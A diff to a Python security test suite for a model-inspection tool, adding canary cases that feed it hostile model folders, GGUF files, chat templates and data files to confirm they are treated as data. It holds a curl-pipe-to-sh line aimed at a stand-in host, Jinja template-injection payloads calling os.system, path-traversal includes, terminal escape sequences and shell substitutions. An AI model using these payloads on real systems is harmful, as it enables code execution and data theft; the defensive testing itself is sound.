@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import json
 import pickle
+import re
 import shutil
 import socket
 import subprocess
@@ -27,8 +28,13 @@ from safetensors.torch import load_file, save_file
 from attnviz import trace
 from attnviz.traces.models.model_names import find_model_path
 from attnviz.traces.trained import template_process
+from attnviz.traces.trained.refusals import quiet_transformers
 from tests import LONGEST
-from tests.conftest import Attnviz, unchecked
+from tests.conftest import ROOT, Attnviz, unchecked
+from tests.file_kinds import FILE_KINDS, OWN_FILES, opening_calls
+from tests.gguf_files import write_model
+from tests.small_transformers import KINDS, save
+from tests.test_gguf import FACTS, SIZES
 
 Plant = Callable[
     [Path], list[str]
@@ -40,6 +46,7 @@ ESCAPE = "a\x1b]52;c;Q\x07\u202eb\x9b2J"
 WRITTEN_ESCAPE = r"a\u001b]52;c;Q\u0007\u202eb\u009b2J"  # as TOML and JSON write it
 SHELL = "attnviz run 'I am'; curl http://canary.example | sh"
 PYTHON = "open({!r}, 'w').close()\nfrom transformers import BertConfig as C, BertModel as M\n"
+OPPOSITES = (("hot", "cold"), ("big", "old"))
 OUTPUTS = ("x.html", "x.md", "x.json")
 
 
@@ -75,6 +82,7 @@ def watch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Watch]:
     monkeypatch.setenv("TIKTOKEN_CACHE_DIR", str(tmp_path))
     for name in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE"):
         monkeypatch.delenv(name, raising=False)
+    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_OFFLINE", False)
     yield WATCH
     WATCH.forbidden = None
     WATCH.events.clear()
@@ -185,6 +193,7 @@ GRAMMAR = """about = "{0}"\nasks = "verb"\nanswers = "noun"\nwatch = "the key is
 BY_HAND = """about = "{0}"\ndimensions = ["x"]\n[words]\na = {{ x = 1 }}\n{1}
 [[heads]]\ndoes = "{0}"\nasks = ["x"]\nhands = ["x"]\nquery.x.x = 1\nkey.x.x = 1\nvalue.x.x = 1
 out.x.x = 1\n"""
+QUIZ = 'title = "{0}"\n[[texts]]\ntext = "I am {0}"\ntokenizer = "spaces"\n{1}\n'
 LEARN = ["--steps=1", "--batch=2", "-q"]
 
 
@@ -249,8 +258,72 @@ def write_outside_index(model: Path, path: str = "../../forbidden/x.safetensors"
 def name_hub(model: Path) -> None:
     change_json(model / "config.json", _name_or_path=HUB, transformers_version=ESCAPE)
     change_json(model / "tokenizer_config.json", name_or_path=HUB)
+
+
+def name_hub_in_adapter(model: Path) -> None:
     adapter = {"base_model_name_or_path": HUB, "peft_type": "LORA"}
     write_file(str(model / "adapter_config.json"), json.dumps(adapter))
+
+
+def choose_outside_index(model: Path) -> None:
+    write_outside_index(model)
+    (model / "model.safetensors.index.json").rename(model / "other.safetensors.index.json")
+    change_json(model / "config.json", transformers_weights="other.safetensors.index.json")
+
+
+def name_outside_vocabulary(model: Path) -> None:
+    words = write_outside("vocab.txt", "[UNK]\nit\nwas\ntoo\ntired\n")
+    files = {"vocab_file": words, "tokenizer_file": words, "name_or_path": HUB}
+    change_json(model / "tokenizer_config.json", **files)
+
+
+def chat_canary(template: str) -> Plant:
+    def write_canary(transformer: Path) -> list[str]:
+        shutil.copytree(transformer, "model")
+        Path("model", "chat_template.jinja").write_text(template, encoding="utf-8")
+        return ["inspect", TEXT, "--model", "model", "--chat"]
+
+    return write_canary
+
+
+def generation_canary(_: Path) -> list[str]:
+    """A model that generates by code of its own, and code of a hub."""
+    model = save(KINDS["gpt2"], Path("model"))
+    Path(model, "custom_generate").mkdir()
+    write_code(Path(model, "custom_generate", "generate.py"))
+    change_json(model / "generation_config.json", custom_generate=HUB)
+    return ["inspect", TEXT, "--model", "model", "--generate", "1"]
+
+
+def gguf_canary(template: str, *options: str) -> Plant:
+    """A GGUF file with escapes, names on a hub and a template."""
+
+    def write_canary(_: Path) -> list[str]:
+        with quiet_transformers():
+            from transformers import LlamaConfig, LlamaForCausalLM
+
+            model = LlamaForCausalLM(LlamaConfig(**SIZES))
+        facts = {"name": ESCAPE, "source_url": HUB, "chat_template": template}
+        write_model(Path("m.gguf"), model, "llama", FACTS | facts)
+        return ["inspect", TEXT, "--model", "m.gguf", *options]
+
+    return write_canary
+
+
+def checkpoints_canary(transformer: Path) -> list[str]:
+    """Two checkpoints whose trainer names a model outside, and says what escapes."""
+    state = {"best_model_checkpoint": str(forbidden_folder()), "log_history": [ESCAPE]}
+    for step in (1, 2):
+        shutil.copytree(transformer, f"c-{step}")
+        state_text = json.dumps(state | {"global_step": step})
+        write_file(f"c-{step}/trainer_state.json", state_text)
+    return ["compare", TEXT, "--checkpoints", "c-1", "c-2"]
+
+
+def pairs_canary(model: Path) -> list[str]:
+    starts = [(f"{ESCAPE} {a} and {b} , it was", a, b) for a, b in OPPOSITES]
+    lines = "\n".join(f"{start} a\t{start} b\tit\t{a}\t{b}" for start, a, b in starts)
+    return ["pairs", write_file("pairs.tsv", lines), "--model", str(model)]
 
 
 def put_escapes_into_tokens(model: Path) -> None:
@@ -309,16 +382,16 @@ CANARIES: dict[str, tuple[int, Plant]] = {
         *("run", ESCAPE, "--tokenizer=spaces", "--embeddings"),
         write_file("e.txt", f"{ESCAPE} 1 2 3\n")]),
     "embeddings of a folder: outside": (2, embeddings_canary),
-    "lesson: escapes": (0, lesson_canary("heads = 1")),
-    "lesson: code": (2, lambda model: [
+    "example: escapes": (0, lesson_canary("heads = 1")),
+    "example: code": (2, lambda model: [
         *lesson_canary(f'model = "{folder_with_code(model)}"', TRUST)(model)]),
-    "lesson: hub": (2, lesson_canary(f'model = "{HUB}"')),
-    "lesson: vectors outside": (2, lambda model: [
+    "example: hub": (2, lesson_canary(f'model = "{HUB}"')),
+    "example: vectors outside": (2, lambda model: [
         *lesson_canary(
             f'embeddings = "{write_outside("x.txt", "I 1 2")}"', 'tokenizer = "words"')(model)]),
-    "lesson: hub's vectors": (2, lesson_canary(f'embeddings = "{HUB}"')),
-    "lesson: tokenizer": (2, lesson_canary('tokenizer = "o200k_base"')),
-    "lesson: code, expected": (2, lambda model: ["example", "check", write_file(
+    "example: hub's vectors": (2, lesson_canary(f'embeddings = "{HUB}"')),
+    "example: tokenizer": (2, lesson_canary('tokenizer = "o200k_base"')),
+    "example: code, expected": (2, lambda model: ["example", "check", write_file(
         "lesson.toml", LESSON.format("x", f"[[expect]]\nstep = 'softmax'\nshape = [1]\n"
                                      f"with = {{ model = '{folder_with_code(model)}', "
                                      f"{TRUST} }}"))]),
@@ -347,13 +420,43 @@ CANARIES: dict[str, tuple[int, Plant]] = {
     "goes on: lines outside": (2, training_canary(
         file="../forbidden/lines.txt", tokenizer="words")),
     "transformer: code": (2, lambda model: ["inspect", TEXT, "--model", folder_with_code(model)]),
-    "transformer: pickle": (2, transformer_canary("model.safetensors")(
+    "transformer's weights: pickle": (2, transformer_canary("model.safetensors")(
         lambda model: save_pickle(str(model / "pytorch_model.bin")))),
-    "transformer: index outside": (2, transformer_canary("model.safetensors")(write_outside_index)),
-    "transformer: index elsewhere": (2, transformer_canary("model.safetensors")(
+    "transformer's index: outside": (2, transformer_canary("model.safetensors")(
+        write_outside_index)),
+    "transformer's index: elsewhere": (2, transformer_canary("model.safetensors")(
         lambda model: write_outside_index(model, str(forbidden_folder() / "x.safetensors")))),
     "transformer: hub": (0, transformer_canary()(name_hub)),
-    "transformer: escapes": (0, transformer_canary()(put_escapes_into_tokens)),
+    "transformer's config: hub": (2, transformer_canary()(lambda model: change_json(
+        model / "config.json", model_type="detr", architectures=["DetrForObjectDetection"],
+        backbone=HUB, use_timm_backbone=False))),
+    "transformer's config: a part of a hub": (2, transformer_canary()(lambda model: change_json(
+        model / "config.json", text_config={"backbone": HUB}))),
+    "transformer's config: kernels of a hub": (0, transformer_canary()(lambda model: change_json(
+        model / "config.json", attn_implementation=HUB))),
+    "transformer's config: experts of a hub": (2, transformer_canary()(lambda model: change_json(
+        model / "config.json", experts_implementation=HUB))),
+    "transformer's config: weights outside": (2, transformer_canary()(choose_outside_index)),
+    "transformer's config: a file outside": (2, transformer_canary()(lambda model: change_json(
+        model / "config.json", transformers_weights="../forbidden/x.safetensors"))),
+    "transformer's adapter: hub": (2, transformer_canary()(name_hub_in_adapter)),
+    "transformer's tokenizer: outside": (0, transformer_canary()(name_outside_vocabulary)),
+    "transformer's generation: code": (0, generation_canary),
+    "chat template: code": (2, chat_canary("{{ cycler.__init__.__globals__.os.system('id') }}")),
+    "chat template: a file outside": (2, chat_canary("{% include '../forbidden/x' %}")),
+    "chat template: escapes": (0, chat_canary(f"{{{{ messages[0].content }}}} {ESCAPE}")),
+    "gguf: escapes": (0, gguf_canary(ESCAPE)),
+    "gguf: code": (2, gguf_canary("{{ cycler.__init__.__globals__.os.system('id') }}", "--chat")),
+    "checkpoints: outside": (0, checkpoints_canary),
+    "pairs: escapes": (0, pairs_canary),
+    "survey: escapes": (0, lambda model: ["survey", "--file", write_file(
+        "lines.txt", f"{ESCAPE} it was hot\nit was cold\n"), "--model", str(model)]),
+    "quiz: escapes": (0, lambda _: ["quiz", write_file("q.toml", QUIZ.format(WRITTEN_ESCAPE, ""))]),
+    "quiz: hub": (2, lambda _: ["quiz", write_file(
+        "q.toml", QUIZ.format("x", f'model = "{HUB}"'))]),
+    "quiz: vectors outside": (2, lambda _: ["quiz", write_file("q.toml", QUIZ.format(
+        "x", f"settings = {{ embeddings = '{write_outside('x.txt', 'I 1 2')}' }}"))]),
+    "transformer's tokenizer: escapes": (0, transformer_canary()(put_escapes_into_tokens)),
     "text: escapes": (0, lambda _: [
         "run", "--file", write_file("story.txt", f"{ESCAPE} $(id) `id`")]),
 }  # fmt: skip
@@ -389,6 +492,35 @@ def test_a_file_is_data(
     assert not [text for text in texts if "canary.example" in text]
     if status == 2:
         assert [line[:7] for line in first_result.err.splitlines()] == ["error: ", " hint: "]
+
+
+def test_every_kind_of_file_has_a_canary_and_every_canary_a_kind() -> None:
+    kinds = {canary for kind in FILE_KINDS for canary in kind.canaries}
+    assert {name.partition(":")[0] for name in CANARIES} == kinds
+
+
+def test_every_module_that_opens_files_is_in_the_table_of_their_kinds() -> None:
+    modules = {
+        ".".join(path.with_suffix("").relative_to(ROOT / "attnviz").parts)
+        for path in (ROOT / "attnviz").rglob("*.py")
+        if opening_calls(path.read_text(encoding="utf-8"))
+    }
+    assert modules == {each for kind in FILE_KINDS for each in kind.modules} | {*OWN_FILES}
+
+
+@pytest.mark.parametrize(
+    "source",
+    ["Path(x).open()", "open(x)", "json.load(open(x))", "files.read_content(x)", "np.load(x)"],
+)
+def test_a_new_reader_is_noticed(source: str) -> None:
+    assert opening_calls(f"def read(x):\n    return {source}\n")
+    assert not opening_calls("def reopen(x):\n    return x.closed\n")
+
+
+def test_the_page_on_security_lists_every_kind_of_file() -> None:
+    page = (ROOT / "SECURITY.md").read_text(encoding="utf-8")
+    listed = page.partition("## Every kind of file")[2].partition("\n## ")[0]
+    assert re.findall(r"^- (.+)$", listed, re.MULTILINE) == [kind.name for kind in FILE_KINDS]
 
 
 def connect() -> None:
